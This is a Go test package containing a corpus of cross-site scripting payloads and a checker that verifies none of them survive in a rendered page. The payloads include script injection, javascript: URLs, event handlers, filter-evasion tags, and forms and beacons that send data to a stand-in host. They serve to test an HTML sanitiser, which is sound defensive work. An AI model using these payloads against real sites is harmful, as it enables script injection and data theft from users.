// Package sanitizetest is a corpus of hostile HTML for tests of the pages
// that render stored HTML, and a check of what reached a rendered page.
package sanitizetest

import (
	"fmt"
	"io"
	"strings"

	"golang.org/x/net/html"
)

// Marker is in every hostile part of the corpus: a rendered page must
// not carry it in any tag, attribute, script or style, only (escaped) in
// text.
const Marker = "xssmark"

// Corpus is hostile HTML as an attacker would store it in a description:
// redirects, tracking beacons, injected form inputs, scripts, event
// handlers, style and URL tricks, and markup that tries to escape its
// context.
var Corpus = []string{
	`<meta http-equiv="refresh" content="0;url=https://xssmark.example/">`,
	`<img src="https://xssmark.example/beacon.png" alt="">`,
	`<img src=x onerror="xssmark()">`,
	`<input type="hidden" name="xssmark" value="1">`,
	`<input name="_systemfield_email" value="x@evil.example" form="xssmark">`,
	`<form action="https://xssmark.example/steal"><button>Apply</button></form>`,
	`<button formaction="https://xssmark.example/">Go</button>`,
	`<textarea name="xssmark"></textarea><select name="xssmark"></select>`,
	`<script>xssmark()</script>`,
	`<script src="https://xssmark.example/x.js"></script>`,
	`<scr<script>ipt>xssmark()</scr</script>ipt>`,
	`<a href="javascript:xssmark()">click</a>`,
	`<a href="JaVaScRiPt:xssmark()">click</a>`,
	`<a href="data:text/html,xssmark">click</a>`,
	`<a href="https://ok.example/" onclick="xssmark()" onmouseover="xssmark()">hover</a>`,
	`<p onmouseover="xssmark()" style="background:url(https://xssmark.example/)">text</p>`,
	`<div style="position:fixed;inset:0" class="xssmark">overlay</div>`,
	`<iframe src="https://xssmark.example/"></iframe>`,
	`<frameset><frame src="https://xssmark.example/"></frameset>`,
	`<object data="https://xssmark.example/x.swf"></object><embed src="https://xssmark.example/x.swf">`,
	`<svg onload="xssmark()"><use href="https://xssmark.example/#x"/></svg>`,
	`<math><mi xlink:href="javascript:xssmark()">x</mi></math>`,
	`<style>@import url(https://xssmark.example/x.css); body{display:none}</style><p>xssmark-free</p>`,
	`<link rel="stylesheet" href="https://xssmark.example/x.css">`,
	`<base href="https://xssmark.example/">`,
	`<video poster="https://xssmark.example/p.png"><source src="https://xssmark.example/v.mp4"></video>`,
	`<audio src="https://xssmark.example/a.mp3"></audio>`,
	`<table background="https://xssmark.example/t.png"><tr><td>x</td></tr></table>`,
	`<img srcset="https://xssmark.example/a.png 1x">`,
	`<noscript><img src="https://xssmark.example/n.png"></noscript>`,
	`<template><img src="https://xssmark.example/t.png"></template>`,
	`<p id="xssmark" name="xssmark">clobber</p>`,
	`</div></section></main><h1 id="xssmark">Out of place</h1>`,
	`<!--><img src="https://xssmark.example/c.png">-->`,
	`<![CDATA[<img src="https://xssmark.example/cd.png">]]>`,
	`<a href="https://ok.example/" target="_top" rel="opener" ping="https://xssmark.example/">ping</a>`,
	`&lt;img src="https://xssmark.example/escaped.png"&gt;`, // already text: stays text
	`<IMG SRC="https://xssmark.example/upper.png">`,
	`<img/src="https://xssmark.example/slash.png">`,
	`<p>{{.}} {{template "x"}} xssmark-free template syntax</p>`,
}

// textAttrs hold text, which pages may fill with the plain-text version
// of stored HTML (escaped, so harmless): a marker there is not markup.
var textAttrs = map[string]bool{"alt": true, "title": true, "aria-label": true, "aria-description": true, "placeholder": true}

// Found describes where a rendered page carries the marker outside text,
// or is "" when it does not: no hostile element, attribute, URL, script
// or style survived. Every hostile entry of the corpus carries the marker
// in an attribute that is not text (a name, URL, handler or style), so an
// element that survives is found.
func Found(page string) string {
	z := html.NewTokenizer(strings.NewReader(page))
	var raw string // the element whose content is raw text (script, style …)
	for {
		tt := z.Next()
		switch tt {
		case html.ErrorToken:
			if z.Err() == io.EOF {
				return ""
			}
			return fmt.Sprintf("the page does not parse: %v", z.Err())
		case html.StartTagToken, html.SelfClosingTagToken:
			tok := z.Token()
			if strings.Contains(strings.ToLower(tok.Data), Marker) {
				return fmt.Sprintf("element <%s>", tok.Data)
			}
			describes := false // <meta name=description content=…> and the like
			for _, a := range tok.Attr {
				describes = describes || tok.Data == "meta" && (a.Key == "name" || a.Key == "property")
			}
			for _, a := range tok.Attr {
				if textAttrs[a.Key] || describes && a.Key == "content" {
					a.Val = "" // text, escaped by the template
				}
				if strings.Contains(strings.ToLower(a.Key+"="+a.Val), Marker) {
					return fmt.Sprintf("<%s %s=%q>", tok.Data, a.Key, a.Val)
				}
			}
			if tok.Data == "script" && tt == html.StartTagToken && attr(tok, "type") == "application/ld+json" {
				// Data (structured data for search engines), which
				// json.Marshal escapes: text there cannot end the script,
				// and anything that did would be found as markup.
				raw = "data"
				continue
			}
			switch tok.Data {
			case "script", "style", "textarea", "title", "noscript", "iframe", "noembed", "noframes", "xmp", "plaintext":
				if tt == html.StartTagToken {
					raw = tok.Data
				}
			}
		case html.EndTagToken:
			raw = ""
		case html.TextToken, html.CommentToken:
			if raw != "" && raw != "data" && raw != "title" && raw != "textarea" && strings.Contains(strings.ToLower(string(z.Text())), Marker) {
				return fmt.Sprintf("inside <%s>", raw)
			}
		}
	}
}

func attr(tok html.Token, key string) string {
	for _, a := range tok.Attr {
		if a.Key == key {
			return a.Val
		}
	}
	return ""
}
